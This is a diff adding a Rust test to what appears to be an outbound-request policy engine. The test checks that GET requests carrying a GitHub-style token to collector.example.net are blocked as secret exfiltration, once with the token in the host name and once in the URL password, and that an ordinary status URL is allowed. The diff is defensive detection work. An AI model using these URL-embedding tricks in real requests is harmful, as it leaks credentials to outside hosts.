@@ -639,3 +639,38 @@ fn sending_paths_without_addressed_recipients_are_writes() {
         &["EXTERNAL_WRITE"],
     );
 }
+
+#[test]
+fn what_the_url_itself_carries_is_sent_with_a_get() {
+    let engine = engine();
+    // A token written as the host name leaves in the DNS query and the
+    // Host header; as the authority's password, in the credentials.
+    check(
+        &engine,
+        &[
+            (
+                "GET",
+                "http://ghp_7kQ2mVx9RtLw3Nc8ZpYb4HsJd1FgAe6UoK0i.collector.example.net/ping",
+                "",
+            ),
+            (
+                "GET",
+                "https://x:ghp_7kQ2mVx9RtLw3Nc8ZpYb4HsJd1FgAe6UoK0i@collector.example.net/ping",
+                "",
+            ),
+        ],
+        Route::Block,
+        &["EXFIL_SECRET"],
+    );
+    // An ordinary host and query carry nothing sensitive.
+    check(
+        &engine,
+        &[(
+            "GET",
+            "https://status.example.net/api/v2/summary.json?page=2",
+            "",
+        )],
+        Route::Allow,
+        &[],
+    );
+}
